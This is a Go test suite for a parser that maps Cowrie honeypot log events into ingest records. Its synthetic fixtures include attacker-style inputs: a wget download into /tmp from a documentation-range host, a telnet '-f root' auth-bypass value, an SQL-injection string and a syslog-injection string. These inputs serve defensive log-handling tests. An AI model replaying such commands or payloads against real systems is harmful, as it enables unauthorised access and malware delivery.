package cowrie_test

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/decnet/decnet/internal/ingest"
	"github.com/decnet/decnet/internal/ingest/cowrie"
	"github.com/decnet/decnet/internal/ingest/foreign"
)

func readAll(t testing.TB, r io.Reader) ([]foreign.Entry, foreign.Report) {
	t.Helper()
	fr, err := cowrie.NewReader(r, foreign.Position{})
	require.NoError(t, err)
	var out []foreign.Entry
	for {
		e, err := fr.Next()
		if errors.Is(err, io.EOF) {
			break
		}
		require.NoError(t, err)
		out = append(out, e)
	}
	rep := fr.Report()
	sum := rep.Kept
	for _, n := range rep.Skipped {
		sum += n
	}
	require.Equal(t, rep.Read, sum)
	require.EqualValues(t, len(out), rep.Kept)
	return out, rep
}

// line is an event with what every event has; members of more replace those, nil removes one.
func line(t testing.TB, id string, more map[string]any) string {
	t.Helper()
	m := map[string]any{
		"eventid": id, "timestamp": "2026-01-02T03:04:05.678901Z", "sensor": "svr-1", "session": "0123456789ab",
		"src_ip": "192.0.2.7", "protocol": "ssh", "message": "text", "uuid": "u",
	}
	for k, v := range more {
		if m[k] = v; v == nil {
			delete(m, k)
		}
	}
	b, err := json.Marshal(m)
	require.NoError(t, err)
	return string(b)
}

func one(t testing.TB, text string) foreign.Entry {
	t.Helper()
	all, rep := readAll(t, strings.NewReader(text))
	require.Len(t, all, 1, "%s: %v", text, rep.Skipped)
	return all[0]
}

// fields are those of a record without the two that every record has.
func fields(r *ingest.Record) map[string]string {
	m := r.Fields.Map()
	delete(m, "sid")
	delete(m, "src_ip")
	return m
}

type obj = map[string]any

type want = map[string]string

const sum = "2c26b46b68ffc68ff99b453c1d30413413422d706483bfa0f98a5e886266e7ae"

var kinds = []struct {
	id   string
	more obj
	typ  string
	want want
}{
	{
		"session.connect",
		obj{"src_port": 40022, "dst_ip": "198.51.100.1", "dst_port": 2222},
		"connect",
		want{"src_port": "40022", "dst_ip": "198.51.100.1", "dst_port": "2222"},
	},
	{"session.closed", obj{"duration": 1.25}, "session_closed", want{"service": "ssh", "duration_s": "1.250", "has_recording": "false"}},
	{"session.closed", obj{"duration": "10.1"}, "session_closed", want{"service": "ssh", "duration_s": "10.100", "has_recording": "false"}},
	{"session.closed", obj{"duration_ms": 1500}, "session_closed", want{"service": "ssh", "duration_s": "1.500", "has_recording": "false"}},
	{"session.params", obj{"arch": "linux-x64-lsb", "message": []string{}}, "session_params", want{"arch": "linux-x64-lsb"}},
	{"session.input", obj{"realm": "dd", "input": "x"}, "shell_input", want{"realm": "dd", "input": "x"}},
	{
		"session.file_download",
		obj{"url": "http://192.0.2.9/a", "shasum": sum, "outfile": "dl/" + sum, "destfile": "/tmp/a", "duplicate": false},
		"file_captured",
		want{"sha256": sum, "orig_path": "/tmp/a", "url": "http://192.0.2.9/a", "outfile": "dl/" + sum, "duplicate": "false", "attribution": "download"},
	},
	{
		"session.file_download",
		obj{"url": "http://192.0.2.9/a", "shasum": "", "outfile": ""},
		"download_attempt",
		want{"url": "http://192.0.2.9/a", "attribution": "download"},
	},
	{"session.file_download", obj{"realm": "scp", "input": "ls"}, "shell_input", want{"realm": "scp", "input": "ls"}},
	{"session.file_download.failed", obj{"url": "http://192.0.2.9/a", "error": "timeout"}, "download_attempt", want{"url": "http://192.0.2.9/a", "error": "timeout"}},
	{
		"session.file_upload",
		obj{"filename": "sshd", "shasum": strings.ToUpper(sum), "outfile": "o"},
		"file_captured",
		want{"sha256": sum, "orig_path": "sshd", "outfile": "o", "attribution": "upload"},
	},
	{"session.file_upload", obj{"filename": "sshd"}, "upload", want{"orig_path": "sshd", "attribution": "upload"}},
	{"client.version", obj{"version": "SSH-2.0-Go"}, "client_banner", want{"client_version": "SSH-2.0-Go"}},
	{"client.version", obj{"version": "'SSH-2.0-Go'"}, "client_banner", want{"client_version": "SSH-2.0-Go"}},
	{"client.version", obj{"version": "b'SSH-2.0-Go'"}, "client_banner", want{"client_version": "SSH-2.0-Go"}},
	{
		"client.kex",
		obj{"hassh": "0123456789ABCDEF0123456789abcdef", "hasshAlgorithms": "k;e;m;c", "keyAlgs": []string{"ssh-rsa", "ssh-dss"}, "kexAlgs": []string{"k"}},
		"client_banner",
		want{"hassh": "0123456789abcdef0123456789abcdef", "hassh_algorithms": "k;e;m;c", "host_key_algorithms": "ssh-rsa,ssh-dss"},
	},
	{"client.kex", obj{"hassh": "zz", "keyAlgs": []string{"a,b", "c"}}, "client_banner", want{"host_key_algorithms": `["a,b","c"]`}},
	{"client.size", obj{"width": 80, "height": 24}, "client_size", want{"width": "80", "height": "24"}},
	{"client.var", obj{"name": "LANG", "value": "C"}, "client_var", want{"name": "LANG", "value": "C"}},
	{
		"client.fingerprint",
		obj{"username": "root", "fingerprint": "aa:bb", "key": "k", "type": "ssh-rsa"},
		"auth_attempt",
		want{"username": "root", "principal": "root", "method": "publickey", "fingerprint": "aa:bb", "key_type": "ssh-rsa"},
	},
	{"client.malformed_packet", obj{"messagenum": 20, "datalen": 3, "data": "00ff"}, "protocol_error", want{"messagenum": "20", "data": "00ff"}},
	{"login.success", obj{"username": "root", "password": "pä\x00s"}, "auth_attempt", want{
		"username": "root", "principal": "root", "method": "password", "secret_printable": "p???s", "secret_b64": "cMOkAHM=", "outcome": "success",
	}},
	{"login.failed", obj{"username": "", "password": ""}, "auth_attempt", want{"method": "password", "outcome": "failure"}},
	{
		"login.failed",
		obj{"username": "u", "fingerprint": "f", "type": "ssh-rsa"},
		"auth_attempt",
		want{"username": "u", "principal": "u", "method": "publickey", "fingerprint": "f", "key_type": "ssh-rsa", "outcome": "failure"},
	},
	{"command.input", obj{"input": "a\nb \"c\""}, "command", want{"command": `a\nb "c"`}},
	{"command.input", obj{"input": "x", "realm": "passwd"}, "shell_input", want{"input": "x", "realm": "passwd"}},
	{"command.failed", obj{"input": "nope"}, "command_failed", want{"command": "nope"}},
	{"command.success", obj{"input": "ls"}, "command_success", want{"command": "ls"}},
	{"command.chpasswd", obj{"realm": "chpasswd", "username": "root"}, "command_chpasswd", want{"username": "root"}},
	{"log.open", obj{"ttylog": "tty/x"}, "tty_log_opened", want{"tty_log": "tty/x"}},
	{
		"log.closed",
		obj{"ttylog": "tty/" + sum, "size": 1513, "shasum": sum, "duplicate": true, "duration": "6.5"},
		"tty_log_closed",
		want{"duration_s": "6.500", "tty_log": "tty/" + sum, "sha256": sum, "bytes": "1513", "duplicate": "true"},
	},
	{
		"direct-tcpip.request",
		obj{"dst_ip": "example.org", "dst_port": 443, "src_port": 5},
		"forward_request",
		want{"kind": "direct-tcpip", "dest": "example.org:443", "dest_port": "443"},
	},
	{
		"direct-tcpip.request",
		obj{"dst_ip": "example.org", "dst_port": 443, "src_port": 50123, "orig_ip": "127.0.0.1", "orig_port": 5},
		"forward_request",
		want{"src_port": "50123", "kind": "direct-tcpip", "dest": "example.org:443", "dest_port": "443", "origin": "127.0.0.1:5"},
	},
	{
		"direct-tcpip.redirect",
		obj{"new_ip": "192.0.2.1", "new_port": 25, "dst_ip": "h", "dst_port": 25},
		"direct_tcpip_redirect",
		want{"new_ip": "192.0.2.1", "new_port": "25", "kind": "direct-tcpip", "dest": "h:25", "dest_port": "25"},
	},
	{"direct-tcpip.tunnel", obj{"new_ip": "192.0.2.1", "new_port": 25}, "direct_tcpip_tunnel", want{"new_ip": "192.0.2.1", "new_port": "25", "kind": "direct-tcpip"}},
	{
		"direct-tcpip.data",
		obj{"dst_ip": "h", "dst_port": 80, "data": "b'GET /'"},
		"direct_tcpip_data",
		want{"data": "b'GET /'", "kind": "direct-tcpip", "dest": "h:80", "dest_port": "80"},
	},
	{"direct-tcpip.ja4", obj{"ja4": "t13"}, "direct_tcpip_ja4", want{"ja4": "t13", "kind": "direct-tcpip"}},
	{"direct-tcpip.ja4h", obj{"ja4h": "ge11"}, "direct_tcpip_ja4h", want{"ja4h": "ge11", "kind": "direct-tcpip"}},
	{"tunnelproxy-tcpip.data", obj{"data": "x"}, "tunnelproxy_tcpip_data", want{"data": "x"}},
	{"telnet.error", obj{"error": "e"}, "protocol_error", want{"error": "e"}},
	{
		"telnet.exploit_attempt",
		obj{"cve": "CVE-2026-24061", "name": "USER", "value": "-f root"},
		"telnet_exploit_attempt",
		want{"cve": "CVE-2026-24061", "name": "USER", "value": "-f root"},
	},
	{
		"telnet.exploit_success",
		obj{"cve": "c", "username": "root", "original_username": "-f root", "attempted_command": "id"},
		"telnet_exploit_success",
		want{"cve": "c", "username": "root", "original_username": "-f root", "attempted_command": "id"},
	},
	{
		"telnet.option",
		obj{"command": "WILL", "option_name": "NAWS", "option_byte": 31},
		"telnet_option",
		want{"negotiation": "WILL", "option_name": "NAWS", "option_byte": "31"},
	},
	{"something.new-2", obj{"secret_b64": "AAAA", "stored_as": "x"}, "something_new_2", want{}},
}

func TestReader_MapsEveryKind(t *testing.T) {
	t.Parallel()
	for _, c := range kinds {
		t.Run(c.id, func(t *testing.T) {
			t.Parallel()
			e := one(t, line(t, "cowrie."+c.id, c.more))
			r := e.Record
			require.Equal(t, c.typ, r.Type)
			require.Equal(t, c.want, fields(r))
			require.Equal(t, "0123456789ab", r.Fields.Get("sid"))
			require.Equal(t, "192.0.2.7", r.AttackerText())
			require.Equal(t, r.Fields.Get("src_port"), portText(r.Port))
			require.Equal(t, time.Date(2026, 1, 2, 3, 4, 5, 678901000, time.UTC), r.Time)
			service := "ssh"
			if strings.HasPrefix(c.id, "telnet.") {
				service = "telnet"
			}
			require.Equal(t, service, r.App)
			require.Equal(t, ingest.ImportSource("svr-1", service), e.Source)
			require.Equal(t, "import:svr-1#0123456789ab", e.Source.EvidenceRef(r.Fields.Get("sid")))
		})
	}
}

func portText(p uint16) string {
	if p == 0 {
		return ""
	}
	return strconv.Itoa(int(p))
}

func TestReader_SkipsWhatTellsOfTheHoneypot(t *testing.T) {
	t.Parallel()
	ids := []string{
		"abuseipdb.started", "abuseipdb.reportedip", "greynoise.result", "reversedns.connect", "virustotal.scanfile", "urlhaus.submitted", "proxy.ssh",
	}
	var b strings.Builder
	for _, id := range ids {
		b.WriteString(line(t, "cowrie."+id, nil) + "\n")
	}
	all, rep := readAll(t, strings.NewReader(b.String()))
	require.Empty(t, all)
	require.Equal(t, map[foreign.Reason]int64{foreign.Operational: int64(len(ids))}, rep.Skipped)
	require.Len(t, rep.Kinds, len(ids))
}

func TestReader_SkipsForAReason(t *testing.T) {
	t.Parallel()
	const id = "cowrie.command.input"
	for _, c := range []struct {
		text string
		why  foreign.Reason
	}{
		{line(t, "", nil), foreign.NoKind},
		{line(t, id, obj{"eventid": nil}), foreign.NoKind},
		{line(t, id, obj{"eventid": 5}), foreign.NoKind},
		{line(t, "kippo.command.input", nil), foreign.NoKind},
		{line(t, "cowrie.", nil), foreign.NoKind},
		{line(t, id, obj{"timestamp": nil}), foreign.BadTime},
		{line(t, id, obj{"timestamp": 1767323045}), foreign.BadTime},
		{line(t, id, obj{"timestamp": "yesterday"}), foreign.BadTime},
		{line(t, id, obj{"timestamp": "1970-01-01T00:00:00Z"}), foreign.BadTime},
		{line(t, id, obj{"src_ip": nil}), foreign.NoSource},
		{line(t, id, obj{"src_ip": ""}), foreign.NoSource},
		{line(t, id, obj{"src_ip": 7}), foreign.BadSource},
		{line(t, id, obj{"src_ip": "example.org"}), foreign.BadSource},
		{line(t, id, obj{"src_ip": "0.0.0.0"}), foreign.BadSource},
		{line(t, id, obj{"src_ip": []string{"192.0.2.1"}}), foreign.BadSource},
		{line(t, id, obj{"session": nil}), foreign.BadSession},
		{line(t, id, obj{"session": "../x"}), foreign.BadSession},
		{line(t, id, obj{"session": strings.Repeat("a", 37)}), foreign.BadSession},
		{line(t, id, obj{"session": obj{}}), foreign.BadSession},
		{line(t, id, obj{"sensor": nil}), foreign.NoSensor},
		{line(t, id, nil)[:100], foreign.Truncated},
	} {
		all, rep := readAll(t, strings.NewReader(c.text))
		require.Empty(t, all, c.text)
		require.Equal(t, map[foreign.Reason]int64{c.why: 1}, rep.Skipped, c.text)
	}
}

func TestReader_Times(t *testing.T) {
	t.Parallel()
	for text, want := range map[string]string{
		"2026-01-02T03:04:05.678901Z":         "2026-01-02T03:04:05.678901Z",
		"2026-01-02T03:04:05.678901+0530":     "2026-01-01T21:34:05.678901Z",
		"2026-01-02T03:04:05.678901-08:00":    "2026-01-02T11:04:05.678901Z",
		"2026-01-02T03:04:05":                 "2026-01-02T03:04:05Z",
		"2026-01-02T03:04:05.123456789Z":      "2026-01-02T03:04:05.123456Z",
		"2026-01-02 03:04:05.100000":          "2026-01-02T03:04:05.1Z",
		"2026-01-02T03:04:05.678901000+00:00": "2026-01-02T03:04:05.678901Z",
	} {
		require.Equal(t, want, one(t, line(t, "cowrie.client.size", obj{"timestamp": text})).Record.Time.Format(time.RFC3339Nano), text)
	}
}

func TestReader_SourceAddresses(t *testing.T) {
	t.Parallel()
	for text, want := range map[string]string{"2001:db8::1": "2001:db8::1", "::ffff:192.0.2.1": "192.0.2.1", "fe80::1%eth0": "fe80::1"} {
		r := one(t, line(t, "cowrie.session.connect", obj{"src_ip": text})).Record
		require.Equal(t, want, r.AttackerText())
		require.Equal(t, want, r.Fields.Get("src_ip"))
	}
}

func TestReader_Sensors(t *testing.T) {
	t.Parallel()
	e := one(t, line(t, "cowrie.session.connect", obj{"sensor": "Honey_Pot.Example"}))
	require.Regexp(t, `^honey-pot-example-[0-9a-f]{12}$`, e.Source.Sensor)
	require.Equal(t, e.Source.Sensor, e.Source.DeckyKey)
	require.NotEqual(t, e.Source.Sensor, one(t, line(t, "cowrie.session.connect", obj{"sensor": "honey-pot.example"})).Source.Sensor)
}

// TestReader_AnyTypeAnywhere gives every attribute of every kind every type. Nothing may fail; what is kept stays well-formed.
func TestReader_AnyTypeAnywhere(t *testing.T) {
	t.Parallel()
	values := []any{
		nil, true, 0, -1, json.Number("1e999"), json.Number("-0.0"), json.Number(strings.Repeat("9", 500)), "", "\x00\x1b[2J\u202e", strings.Repeat("x", 70000),
		[]any{},
		[]any{1, nil, []any{"a"}},
		obj{},
		obj{"a": obj{"b": []int{1}}},
		"' OR 1=1 --", "\r\n<134>1 - - - - - -",
	}
	for _, c := range kinds {
		for name := range c.more {
			for _, v := range values {
				m := obj{name: v}
				for k, x := range c.more {
					if k != name {
						m[k] = x
					}
				}
				m["nil"] = nil
				text := line(t, "cowrie."+c.id, m)
				all, _ := readAll(t, strings.NewReader(text+"\n"))
				for _, e := range all {
					checkRecord(t, e)
				}
			}
		}
	}
}

// checkRecord asserts what every consumer relies on.
func checkRecord(t testing.TB, e foreign.Entry) {
	t.Helper()
	r := e.Record
	require.Regexp(t, `^[a-z0-9_]{1,32}$`, r.Type)
	require.Regexp(t, `^(ssh|telnet)$`, r.App)
	require.True(t, r.Attacker.IsValid())
	require.Regexp(t, `^[a-z0-9][a-z0-9-]{0,62}$`, e.Source.Sensor)
	require.Regexp(t, `^[0-9a-f]{32}$`, r.Boot)
	require.NotZero(t, r.Line)
	require.Equal(t, time.UTC, r.Time.Location())
	require.LessOrEqual(t, len(r.Raw), ingest.MaxLineBytes)
	require.LessOrEqual(t, len(r.Fields), ingest.MaxFields)
	total := 0
	for _, f := range r.Fields {
		total += len(f.Value)
		require.Regexp(t, `^[a-z0-9_]{1,32}$`, f.Key)
		for _, c := range f.Value {
			require.Falsef(t, c < ' ' || c == 0x7f || (c >= 0x80 && c < 0xa0), "control character in %s: %q", f.Key, f.Value)
		}
	}
	require.LessOrEqual(t, total, 16<<10)
}

// synthetic is a log in the mixture of kinds of a busy sensor.
func synthetic(t testing.TB, sessions int) []byte {
	t.Helper()
	var b bytes.Buffer
	algorithms := strings.Repeat("diffie-hellman-group14-sha256,", 12)
	for i := range sessions {
		id := fmt.Sprintf("%012x", i)
		for _, l := range []string{
			line(t, "cowrie.session.connect", obj{"session": id, "src_port": 1024 + i%60000, "dst_ip": "198.51.100.1", "dst_port": 2222}),
			line(t, "cowrie.client.version", obj{"session": id, "version": "SSH-2.0-Go", "message": "Remote SSH version: SSH-2.0-Go"}),
			line(t, "cowrie.client.kex", obj{"session": id, "hassh": "0123456789abcdef0123456789abcdef", "hasshAlgorithms": algorithms, "kexAlgs": strings.Split(algorithms, ",")}),
			line(t, "cowrie.login.success", obj{"session": id, "username": "root", "password": strconv.Itoa(i), "message": "login attempt [root/x] succeeded"}),
			line(t, "cowrie.session.params", obj{"session": id, "arch": "linux-x64-lsb", "message": []int{}}),
			line(t, "cowrie.client.size", obj{"session": id, "width": 80, "height": 24}),
			line(t, "cowrie.command.input", obj{"session": id, "input": "cd /tmp; wget http://192.0.2.9/" + id, "message": "CMD: cd /tmp; wget http://192.0.2.9/" + id}),
			line(t, "cowrie.command.input", obj{"session": id, "input": `echo -e "\x41" > a`, "message": `CMD: echo -e "\x41" > a`}),
			line(t, "cowrie.command.input", obj{"session": id, "input": "uname -a", "message": "CMD: uname -a"}),
			line(t, "cowrie.command.failed", obj{"session": id, "input": "nope", "message": "Command not found: nope"}),
			line(t, "cowrie.log.closed", obj{"session": id, "ttylog": "var/lib/cowrie/tty/" + sum, "size": 100, "shasum": sum, "duplicate": true, "duration": "1.5"}),
			line(t, "cowrie.session.closed", obj{"session": id, "duration": "1.5", "message": "Connection lost after 1.5 seconds"}),
		} {
			b.WriteString(l + "\n")
		}
	}
	return b.Bytes()
}

// BenchmarkReader reports lines per second of decoding and mapping together, on one core.
func BenchmarkReader(b *testing.B) {
	data := synthetic(b, 2000)
	b.SetBytes(int64(len(data)))
	b.ReportAllocs()
	var n int64
	for b.Loop() {
		fr, err := cowrie.NewReader(bytes.NewReader(data), foreign.Position{})
		require.NoError(b, err)
		for err == nil {
			_, err = fr.Next()
		}
		n += fr.Report().Kept
	}
	b.ReportMetric(float64(n)/b.Elapsed().Seconds(), "lines/s")
}

func FuzzReader(f *testing.F) {
	for _, c := range kinds {
		m := obj{}
		for k, v := range c.more {
			m[k] = v
		}
		f.Add([]byte(line(f, "cowrie."+c.id, m)+"\n"), uint16(0))
	}
	f.Add([]byte("\x1f\x8b\x08\x00"), uint16(3))
	f.Add([]byte("\ufeff\n\n{}\n[]\n{\"eventid\":\"cowrie.\"}"), uint16(2))
	f.Fuzz(func(t *testing.T, data []byte, stop uint16) {
		whole, err := cowrie.NewReader(bytes.NewReader(data), foreign.Position{})
		if err != nil {
			return
		}
		all, end := drain(whole, -1)
		for _, e := range all {
			checkRecord(t, e)
		}
		first, err := cowrie.NewReader(bytes.NewReader(data), foreign.Position{})
		require.NoError(t, err)
		got, _ := drain(first, int(stop))
		if len(got) < int(stop) {
			return // it read to the end
		}
		second, err := cowrie.NewReader(bytes.NewReader(data), first.Position())
		require.NoError(t, err)
		rest, again := drain(second, -1)
		require.Equal(t, all, append(got, rest...))
		require.Equal(t, errors.Is(end, io.EOF), errors.Is(again, io.EOF))
		require.Equal(t, whole.Report(), first.Report().Plus(second.Report()))
	})
}

// drain reads up to n entries, all for -1.
func drain(fr *foreign.Reader, n int) ([]foreign.Entry, error) {
	var out []foreign.Entry
	for len(out) != n {
		e, err := fr.Next()
		if err != nil {
			return out, err
		}
		out = append(out, e)
	}
	return out, nil
}
